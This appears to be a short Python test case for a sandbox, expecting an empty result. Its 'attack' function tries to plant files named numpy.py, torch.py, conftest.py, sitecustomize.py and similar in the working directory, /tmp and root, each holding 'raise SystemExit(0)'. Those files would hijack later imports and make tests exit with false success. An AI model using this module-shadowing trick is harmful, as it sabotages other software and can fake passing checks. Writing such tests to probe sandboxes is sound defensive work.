# ruff: noqa
"""Leave modules where others would import them.

expects: value
value: []
"""


def attack(x):
    dropped = []
    for name in ("numpy.py", "torch.py", "json.py", "conftest.py", "sitecustomize.py", "usercustomize.py"):
        for place in ("", "/tmp/", "/"):
            try:
                open(place + name, "w").write("raise SystemExit(0)")
                dropped.append(place + name)
            except OSError:
                pass
    return dropped
